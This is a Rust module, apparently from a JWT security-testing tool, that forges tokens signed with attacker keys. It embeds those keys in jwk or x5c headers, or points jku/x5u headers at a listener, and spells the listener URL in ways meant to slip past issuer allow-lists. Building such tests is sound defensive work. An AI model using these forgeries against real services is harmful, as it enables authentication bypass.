//! Tokens that bring their own key: in the header, or at a URL that the header names.

use aws_lc_rs::digest;
use base64ct::{Base64, Encoding};
use jiff::Timestamp;
use scenarios::model::Ability;
use serde_json::json;
use url::Url;

use super::{
    algorithm::{Algorithm, Hash},
    der::{self, oid},
    key::Key,
    keys::spki,
    recipe::{Document, Forged, Made, Material, Part, Recipe, Unforgeable},
    token::part,
};

pub(super) const RECIPES: &[Recipe] = &[
    Recipe {
        name: "embedded-jwk",
        title: "signed with a fresh key whose public half is in the header (CVE-2018-0114)",
        changes: &[Part::Header, Part::Signature],
        needs: &[Ability::Jwt],
        make: embedded_jwk,
    },
    Recipe {
        name: "embedded-x5c",
        title: "signed with a fresh key whose self-signed certificate is in the header",
        changes: &[Part::Header, Part::Signature],
        needs: &[Ability::Jwt],
        make: embedded_x5c,
    },
    Recipe {
        name: "jku-attacker",
        title: "signed with a fresh key that the header says to fetch from a foreign key set",
        changes: &[Part::Header, Part::Signature],
        needs: &[Ability::Jwt, Ability::Listener],
        make: jku_attacker,
    },
    Recipe {
        name: "x5u-attacker",
        title: "signed with a fresh key whose certificate the header says to fetch from a foreign place",
        changes: &[Part::Header, Part::Signature],
        needs: &[Ability::Jwt, Ability::Listener],
        make: x5u_attacker,
    },
];

/// The issuer's own algorithm where it is of the kind, for its allow-list may hold no other.
fn like_the_issuers(material: &Material<'_>, usual: Algorithm) -> Algorithm {
    material
        .algorithm()
        .ok()
        .filter(|own| own.is_sibling_of(usual))
        .unwrap_or(usual)
}

fn embedded_jwk(material: &mut Material<'_>) -> Made {
    let hash = Hash::Sha256;
    let usual = [
        ("rsa", Algorithm::Rs(hash)),
        ("rsa-pss", Algorithm::Ps(hash)),
        ("ec", Algorithm::Es(hash)),
        ("okp", Algorithm::EdDsa),
        ("oct", Algorithm::Hs(hash)),
    ];
    let kid = material.token()?.kid();
    let mut forged = Vec::new();
    for (form, usual) in usual {
        let algorithm = like_the_issuers(material, usual);
        let key = Key::foreign(algorithm, material.rng)?;
        let secret = key
            .secret_bytes()
            .map(|secret| json!({"kty": "oct", "k": part(secret)}));
        let mut jwk = secret.or_else(|| key.public_jwk()).unwrap_or_default();
        if let Some(kid) = kid {
            jwk["kid"] = kid.into();
        }
        let draft = material.draft()?.header(|h| {
            h.set("alg", algorithm.name());
            h.set("jwk", jwk);
        });
        forged.push(Forged::form(form, draft.signed(algorithm, &key)?));
    }
    Ok(forged)
}

fn embedded_x5c(material: &mut Material<'_>) -> Made {
    let algorithm = like_the_issuers(material, Algorithm::Rs(Hash::Sha256));
    let key = Key::foreign(algorithm, material.rng)?;
    let certificate = self_signed(&key, material.now)?;
    let sha1 = digest::digest(&digest::SHA1_FOR_LEGACY_USE_ONLY, &certificate);
    let sha256 = digest::digest(&digest::SHA256, &certificate);
    let chain = json!([Base64::encode_string(&certificate)]);
    let thumbprints = [
        ("x5c", None),
        ("x5c-x5t", Some(("x5t", part(sha1.as_ref())))),
        ("x5c-x5t-S256", Some(("x5t#S256", part(sha256.as_ref())))),
    ];
    thumbprints
        .into_iter()
        .map(|(form, thumbprint)| {
            let draft = material.draft()?.header(|h| {
                h.set("alg", algorithm.name());
                h.set("x5c", chain.clone());
                if let Some((name, value)) = thumbprint {
                    h.set(name, value);
                }
            });
            Ok(Forged::form(form, draft.signed(algorithm, &key)?))
        })
        .collect()
}

/// A version 1 certificate in which an RSA key vouches for itself for a day around `now` (RFC 5280 4.1).
fn self_signed(key: &Key, now: i64) -> Result<Vec<u8>, Unforgeable> {
    const REFUSED: Unforgeable = Unforgeable::Crypto("a certificate cannot be made");
    let public = key.public_jwk().as_ref().and_then(spki).ok_or(REFUSED)?;
    let time = |seconds: i64| {
        let at = Timestamp::from_second(seconds).map_err(|_| REFUSED)?;
        Ok(der::value(
            0x17,
            at.strftime("%y%m%d%H%M%SZ").to_string().as_bytes(),
        ))
    };
    let name = der::sequence(&[&der::value(
        0x31,
        &der::sequence(&[oid::COMMON_NAME, &der::value(0x0c, b"authspec")]),
    )]);
    let validity = der::sequence(&[&time(now - 3600)?, &time(now + 24 * 3600)?]);
    let algorithm = der::sequence(&[oid::RSA_SHA256, der::NULL]);
    let content = der::sequence(&[
        &der::integer(&[1]),
        &algorithm,
        &name,
        &validity,
        &name,
        &public,
    ]);
    let signature = key.sign(Algorithm::Rs(Hash::Sha256), &content)?;
    Ok(der::sequence(&[
        &content,
        &algorithm,
        &der::bit_string(&signature),
    ]))
}

fn jku_attacker(material: &mut Material<'_>) -> Made {
    pointed(
        material,
        "jku",
        Algorithm::Rs(Hash::Sha256),
        |key, kid, _| {
            let mut jwk = key.public_jwk().unwrap_or_default();
            jwk["kid"] = kid.into();
            jwk["use"] = "sig".into();
            Ok((
                "jwks.json",
                "application/json",
                json!({ "keys": [jwk] }).to_string(),
            ))
        },
    )
}

fn x5u_attacker(material: &mut Material<'_>) -> Made {
    pointed(
        material,
        "x5u",
        Algorithm::Rs(Hash::Sha256),
        |key, _, now| {
            let text = der::pem("CERTIFICATE", &self_signed(key, now)?, "\n");
            Ok(("certificate.pem", "application/x-pem-file", text))
        },
    )
}

type Served = (&'static str, &'static str, String);

/// A token for each spelling of the listener's URL in the member `pointer`; each has a path of its own.
fn pointed(
    material: &mut Material<'_>,
    pointer: &'static str,
    usual: Algorithm,
    document: impl Fn(&Key, &str, i64) -> Result<Served, Unforgeable>,
) -> Made {
    let listener = material
        .listener
        .ok_or(Unforgeable::NeedsListener)?
        .trim_end_matches('/');
    let algorithm = match material.algorithm()? {
        // A certificate is made for RSA only, a key set for any private key.
        own if own.is_hmac() || pointer == "x5u" => like_the_issuers(material, usual),
        own => own,
    };
    let own_kid = material.token()?.kid();
    let key = Key::foreign(algorithm, material.rng)?;
    let kid = own_kid.unwrap_or("authspec");
    let (file, content_type, body) = document(&key, kid, material.now)?;
    let mut forged = Vec::new();
    for spelling in SPELLINGS {
        let path = format!("/{}/{file}", material.random_word(24));
        let Some(url) = (spelling.url)(listener, &path, material.jwks_url) else {
            continue;
        };
        let draft = material.draft()?.header(|h| {
            h.set("alg", algorithm.name());
            h.set(pointer, url);
            if own_kid.is_none() && pointer == "jku" {
                h.set("kid", kid);
            }
        });
        forged.push(Forged {
            name: spelling.form.to_owned(),
            text: draft.signed(algorithm, &key)?,
            serve: Some(Document {
                path,
                content_type,
                body: body.clone(),
            }),
        });
    }
    Ok(forged)
}

/// A way to write the listener's URL, given its base, the path, and the issuer's true URL.
struct Spelling {
    form: &'static str,
    url: fn(&str, &str, Option<&str>) -> Option<String>,
}

const SPELLINGS: &[Spelling] = &[
    Spelling {
        form: "own",
        url: |listener, path, _| Some(format!("{listener}{path}")),
    },
    // https://issuer@listener/...: the trusted host as user information (RFC 3986 3.2.1).
    Spelling {
        form: "userinfo",
        url: |listener, path, trusted| {
            let (scheme, host) = listener.split_once("://")?;
            Some(format!("{scheme}://{}@{host}{path}", authority(trusted?)?))
        },
    },
    // The trusted host as the beginning of a longer name; resolvers keep *.localhost local (RFC 6761 6.3).
    Spelling {
        form: "prefix",
        url: |listener, path, trusted| {
            let own = Url::parse(listener).ok()?;
            let trusted = Url::parse(trusted?).ok()?;
            let (host, port) = (trusted.host_str()?, own.port_or_known_default()?);
            let local = matches!(own.host_str()?, "127.0.0.1" | "localhost" | "[::1]");
            (local && !host.starts_with('['))
                .then(|| format!("{}://{host}.localhost:{port}{path}", own.scheme()))
        },
    },
    Spelling {
        form: "fragment",
        url: |listener, path, trusted| Some(format!("{listener}{path}#{}", trusted?)),
    },
    // A path of the trusted host that sends its callers on, where there is one.
    Spelling {
        form: "open-redirect",
        url: |listener, path, trusted| {
            let mut url = Url::parse(trusted?).ok()?.join("/redirect").ok()?;
            url.query_pairs_mut()
                .append_pair("url", &format!("{listener}{path}"));
            Some(url.into())
        },
    },
];

/// Host and port of a URL.
fn authority(url: &str) -> Option<String> {
    let url = Url::parse(url).ok()?;
    let host = url.host_str()?;
    Some(
        url.port()
            .map_or_else(|| host.to_owned(), |port| format!("{host}:{port}")),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(form: &str, trusted: &str, want: Option<&str>) {
        let spelling = SPELLINGS
            .iter()
            .find(|spelling| spelling.form == form)
            .unwrap();
        let url = (spelling.url)(
            "http://127.0.0.1:9",
            "/r/k",
            Some(trusted).filter(|t| !t.is_empty()),
        );
        assert_eq!(url.as_deref(), want);
    }

    #[test]
    fn the_listener_is_spelt_like_the_issuer() {
        let issuer = "https://id.example.com:8443/jwks";
        check("own", "", Some("http://127.0.0.1:9/r/k"));
        check(
            "userinfo",
            issuer,
            Some("http://id.example.com:8443@127.0.0.1:9/r/k"),
        );
        check(
            "prefix",
            issuer,
            Some("http://id.example.com.localhost:9/r/k"),
        );
        check(
            "fragment",
            issuer,
            Some("http://127.0.0.1:9/r/k#https://id.example.com:8443/jwks"),
        );
        let redirect =
            "https://id.example.com:8443/redirect?url=http%3A%2F%2F127.0.0.1%3A9%2Fr%2Fk";
        check("open-redirect", issuer, Some(redirect));
        check("userinfo", "", None);
        check("prefix", "https://[2001:db8::1]/jwks", None);
        let prefix = SPELLINGS.iter().find(|spelling| spelling.form == "prefix");
        let elsewhere = (prefix.unwrap().url)("http://10.0.0.1:9", "/r/k", Some(issuer));
        assert_eq!(elsewhere, None, "only names below localhost lead to us");
    }

    #[test]
    fn the_certificate_is_read_by_a_strict_parser() {
        let mut rng = rand::rng();
        let key = Key::foreign(Algorithm::Rs(Hash::Sha256), &mut rng).unwrap();
        let certificate = self_signed(&key, 1_795_000_000).unwrap();
        assert_eq!(certificate[0], 0x30);
        let length = usize::from(certificate[2]) << 8 | usize::from(certificate[3]);
        assert_eq!((certificate[1], length), (0x82, certificate.len() - 4));
    }

    #[test]
    fn the_certificate_is_valid_for_a_day_from_an_hour_ago() {
        let key = Key::foreign(Algorithm::Rs(Hash::Sha256), &mut rand::rng()).unwrap();
        // 2026-11-18 11:06:40 UTC.
        let certificate = self_signed(&key, 1_795_000_000).unwrap();
        let text = String::from_utf8_lossy(&certificate);
        assert!(text.contains("261118100640Z"), "an hour before");
        assert!(text.contains("261119110640Z"), "a day after");
    }
}
